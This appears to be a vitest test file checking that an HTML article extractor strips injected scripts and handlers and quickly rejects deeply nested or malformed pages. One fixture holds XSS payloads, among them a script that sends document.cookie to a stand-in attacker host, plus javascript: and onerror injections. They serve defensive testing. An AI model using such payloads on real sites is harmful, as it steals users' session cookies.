import { describe, expect, it } from "vitest";
import { IngestError } from "../../src/errors.js";
import { extractArticle } from "../../src/ingest/extract-article.js";

const MB = 1024 * 1024;
const PARAGRAPH =
  "<p>The ferry council met on Monday to settle the winter timetable, and agreed that boats will run every forty minutes until March.</p>";

function page(body: string): string {
  return `<!doctype html><html><head><title>Ferry timetable settled</title></head><body>${body}</body></html>`;
}

function failure(work: () => unknown): { error: IngestError; ms: number } {
  const started = performance.now();
  let caught: unknown;
  try {
    work();
  } catch (error) {
    caught = error;
  }
  expect(caught).toBeInstanceOf(IngestError);
  return { error: caught as IngestError, ms: performance.now() - started };
}

describe("extractArticle on hostile pages", () => {
  it("keeps injected scripts, styles and event handlers out of the text", () => {
    const html = page(`<article><h1>Ferry timetable settled</h1>
      <script>fetch("https://evil.example/?c=" + document.cookie)</script>
      <style>body { display: none }</style>
      <img src="x" onerror="alert('owned')">
      ${PARAGRAPH.repeat(3)}
      <p>Tickets <b onclick="steal()">stay</b> at four euros.<script>alert(2)</script></p>
      <iframe src="javascript:alert(3)"></iframe></article>`);
    const article = extractArticle(html, "https://ferry.example/news");
    expect(article.text).toContain("boats will run every forty minutes");
    expect(article.text).toContain("Tickets stay at four euros.");
    for (const injected of ["evil.example", "document.cookie", "display: none", "alert", "steal", "onerror", "javascript:"]) {
      expect(article.text).not.toContain(injected);
    }
  });

  it("refuses a 3 MB page of elements nested without end, at once and with a clear reason", () => {
    const html = page(`${"<div>".repeat((3 * MB) / 5)}${PARAGRAPH.repeat(3)}`);
    const { error, ms } = failure(() => extractArticle(html, "https://deep.example/story"));
    expect(error.code).toBe("bad-content");
    expect(error.message).toBe("https://deep.example/story nests its HTML more than 256 levels deep");
    // Before the depth check, 20,000 levels kept the event loop busy for over a minute.
    expect(ms).toBeLessThan(1000);
  });

  it("is not fooled by closing tags of elements that were never opened", () => {
    const html = page(`${"<section></span>".repeat(20_000)}${PARAGRAPH.repeat(3)}`);
    const { error, ms } = failure(() => extractArticle(html, "https://deep.example/story"));
    expect(error.message).toContain("more than 256 levels deep");
    expect(ms).toBeLessThan(1000);
  });

  it.each([
    ["tags that never end", "<a "],
    ["unclosed scripts", "<script>"],
    ["unclosed comments", "<!--"],
  ])("ends quickly on a megabyte of %s", (_name, unit) => {
    const html = page(`${PARAGRAPH}${unit.repeat(MB / unit.length)}`);
    const started = performance.now();
    try {
      extractArticle(html, "https://junk.example/");
    } catch (error) {
      expect(error).toBeInstanceOf(IngestError);
    }
    expect(performance.now() - started).toBeLessThan(3000);
  });

  it("still reads an article nested 200 levels deep, and many unclosed paragraphs side by side", () => {
    const deep = extractArticle(
      page(`<article>${"<div>".repeat(200)}${PARAGRAPH.repeat(3)}${"</div>".repeat(200)}</article>`),
      "https://deep.example/ok",
    );
    expect(deep.text).toContain("boats will run every forty minutes");
    const flat = extractArticle(page(`<article>${PARAGRAPH.replace("</p>", "").repeat(500)}</article>`), "https://flat.example/");
    expect(flat.text.length).toBeGreaterThan(50_000);
  });
});
